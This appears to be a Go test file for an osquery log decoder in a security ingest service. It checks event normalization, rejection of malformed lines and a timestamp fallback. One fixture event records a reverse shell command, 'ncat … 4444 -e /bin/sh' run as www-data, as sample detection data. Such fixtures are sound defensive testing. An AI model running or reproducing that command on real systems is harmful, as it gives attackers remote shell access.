package osquery

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/rarenet/rarenet/services/ingest/datafeed"
	"github.com/rarenet/rarenet/services/ingest/format"
	"github.com/rarenet/rarenet/services/ingest/format/internal/formattest"
	"github.com/rarenet/rarenet/shared/event"
)

// TestResultsFixture decodes a hand-written results log holding every shape: socket_events
// in event format (a connect, a bind), process_open_sockets joined with processes in event
// format (added, then removed), a snapshot of process_open_sockets (a LISTEN socket, an IPv6
// connection, an AF_UNIX socket), a batch diff with numerics, and a row of another query.
func TestResultsFixture(t *testing.T) {
	lines := formattest.Lines(t, "testdata/results.log")
	rs := formattest.Decode(t, New(), "results.log", lines)
	network := []string{"network"}
	start := []string{"connection", "start"}
	linux := event.OS{Type: "linux"}
	want := []event.Event{
		{
			Timestamp: time.Unix(1770711601, 0).UTC(),
			Event: event.Meta{Kind: "event", Category: network, Type: start, Action: "connect", Outcome: "unknown",
				Module: "osquery", Dataset: "osquery.socket_events"},
			Host:        event.Host{Name: "db-02", OS: linux},
			Process:     event.Process{Name: "curl", PID: 31877, Executable: "/usr/bin/curl"},
			Source:      event.Endpoint{IP: "10.20.0.14", Port: 50722},
			Destination: event.Endpoint{IP: "198.51.100.23", Port: 443},
			Network:     event.Network{Type: "ipv4", Transport: "tcp", Direction: "egress", Family: "inet"},
			Origin:      event.Origin{Source: "results.log", Line: 1, Format: "osquery"},
		},
		{
			Timestamp: time.Unix(1770711610, 0).UTC(),
			Event: event.Meta{Kind: "event", Category: network, Type: start, Action: "socket-open",
				Module: "osquery", Dataset: "osquery.process_open_sockets"},
			Host: event.Host{Name: "db-02", OS: linux},
			Process: event.Process{Name: "ncat", PID: 32001, Executable: "/usr/bin/ncat",
				Args:  []string{"ncat", "203.0.113.80", "4444", "-e", "/bin/sh"},
				Title: "ncat 203.0.113.80 4444 -e /bin/sh", WorkingDirectory: "/tmp", Parent: event.Parent{PID: 31990}},
			User:        event.User{Name: "www-data", ID: "33"},
			Source:      event.Endpoint{IP: "10.20.0.14", Port: 41870},
			Destination: event.Endpoint{IP: "203.0.113.80", Port: 4444},
			Network:     event.Network{Type: "ipv4", Transport: "tcp", Family: "inet"},
			Origin:      event.Origin{Source: "results.log", Line: 3, Format: "osquery"},
		},
		{
			// The bare table names no process: only a join with processes gives process.name.
			Timestamp: time.Unix(1770712200, 0).UTC(),
			Event: event.Meta{Kind: "event", Category: network, Type: start, Action: "socket-open",
				Module: "osquery", Dataset: "osquery.process_open_sockets"},
			Host:        event.Host{Name: "db-02", OS: linux},
			Process:     event.Process{PID: 29310},
			Source:      event.Endpoint{IP: "2001:db8:20::14", Port: 38112},
			Destination: event.Endpoint{IP: "2001:db8:99::5", Port: 8080},
			Network:     event.Network{Type: "ipv6", Transport: "tcp", Family: "inet6"},
			Origin:      event.Origin{Source: "results.log", Line: 5, Format: "osquery"},
		},
		{
			Timestamp: time.Unix(1770712200, 0).UTC(),
			Event: event.Meta{Kind: "event", Category: network, Type: start, Action: "socket-open",
				Module: "osquery", Dataset: "osquery.process_open_sockets"},
			Host:        event.Host{Name: "db-02", OS: linux},
			Process:     event.Process{PID: 655},
			Destination: event.Endpoint{Path: "/run/systemd/journal/stdout"},
			Network:     event.Network{Family: "unix"},
			Origin:      event.Origin{Source: "results.log", Line: 5, Format: "osquery"},
		},
		{
			Timestamp: time.Unix(1770712500, 0).UTC(),
			Event: event.Meta{Kind: "event", Category: network, Type: start, Action: "socket-open",
				Module: "osquery", Dataset: "osquery.process_open_sockets"},
			Host:        event.Host{Name: "db-02", OS: linux},
			Process:     event.Process{Name: "curl", PID: 31877, Executable: "/usr/bin/curl"},
			Source:      event.Endpoint{IP: "10.20.0.14", Port: 53311},
			Destination: event.Endpoint{IP: "192.0.2.53", Port: 53},
			Network:     event.Network{Type: "ipv4", Transport: "udp", Family: "inet"},
			Origin:      event.Origin{Source: "results.log", Line: 6, Format: "osquery"},
		},
	}
	if len(rs) != len(want) {
		for _, r := range rs {
			t.Logf("line %d: %+v %v", r.Line, r.Event, r.Err)
		}
		t.Fatalf("got %d results, want %d", len(rs), len(want))
	}
	for i := range want {
		if rs[i].Err != nil {
			t.Fatalf("result %d: %v", i, rs[i].Err)
		}
		if !reflect.DeepEqual(*rs[i].Event, want[i]) {
			t.Errorf("event %d:\n got  %+v\n want %+v", i, *rs[i].Event, want[i])
		}
	}

	// What the datafeed makes of them: the nameless row and the AF_UNIX socket are dropped.
	filter := datafeed.Default()
	for i, wantDropped := range []string{"", "", "no process.name", "no process.name", ""} {
		got := filter.Reason(rs[i].Event)
		if (wantDropped == "") != (got == "") || !strings.Contains(got, wantDropped) {
			t.Errorf("event %d: filter reason %q, want %q", i, got, wantDropped)
		}
	}
}

func TestRejects(t *testing.T) {
	const head = `{"name":"q","hostIdentifier":"h","unixTime":1770711605,`
	tests := []struct{ name, line, msg string }{
		{"invalid JSON", head, "expected a JSON object, got invalid JSON"},
		{"array", `[]`, "expected a JSON object, got an array"},
		{"no rows", `{"name":"q","hostIdentifier":"h"}`, "expected an osquery result with columns, snapshot or diffResults"},
		{"columns without action", head + `"columns":{"pid":"1"}}`, `action: expected "added" or "removed" with columns, got nothing`},
		{"columns not an object", head + `"columns":[1],"action":"added"}`, "columns: expected an object, got an array"},
		{"snapshot of strings", head + `"snapshot":["x"]}`, "snapshot: expected an object, got a string"},
		{"bad pid", head + `"columns":{"pid":"x","remote_address":"1.2.3.4","remote_port":"1","action":"connect"},"action":"added"}`, `columns.pid: expected an integer (0-2147483647), got "x"`},
		{"bad remote address", head + `"snapshot":[{"pid":"1","remote_address":"nope","remote_port":"1","family":"2"}]}`, `snapshot[0].remote_address: expected an IP address, got "nope"`},
		{"bad remote port in diff", head + `"diffResults":{"added":[{"pid":"1","remote_address":"1.2.3.4","remote_port":"-3"}]}}`, `diffResults.added[0].remote_port: expected an integer (0-65535), got "-3"`},
		{"bad event time", head + `"columns":{"pid":"1","remote_address":"1.2.3.4","remote_port":"1","action":"connect","time":"soon"},"action":"added"}`, `columns.time: expected an integer`},
		{"no time at all", `{"columns":{"pid":"1","remote_address":"1.2.3.4","remote_port":"1"},"action":"added"}`, "unixTime: expected seconds since the epoch (or a calendarTime), got nothing"},
		{"column an object", head + `"columns":{"pid":"1","remote_address":"1.2.3.4","remote_port":"1","path":{}},"action":"added"}`, "columns.path: expected a string, got an object"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rs := formattest.Decode(t, New(), "t", []string{tt.line})
			if len(rs) != 1 {
				t.Fatalf("got %d results, want 1 reject", len(rs))
			}
			if !errors.Is(rs[0].Err, format.ErrMalformed) {
				t.Fatalf("err = %v, want ErrMalformed", rs[0].Err)
			}
			if !strings.Contains(rs[0].Err.Error(), tt.msg) {
				t.Errorf("message %q lacks %q", rs[0].Err, tt.msg)
			}
		})
	}
}

// TestCalendarTime checks the fallback for results without unixTime.
func TestCalendarTime(t *testing.T) {
	line := `{"calendarTime":"Tue Feb  3 08:20:05 2026 UTC","columns":{"pid":"1","remote_address":"192.0.2.1","remote_port":"80","name":"wget"},"action":"added"}`
	rs := formattest.Decode(t, New(), "t", []string{line})
	if len(rs) != 1 || rs[0].Err != nil {
		t.Fatalf("results %+v", rs)
	}
	if want := time.Date(2026, 2, 3, 8, 20, 5, 0, time.UTC); !rs[0].Event.Timestamp.Equal(want) {
		t.Errorf("@timestamp %v, want %v", rs[0].Event.Timestamp, want)
	}
}
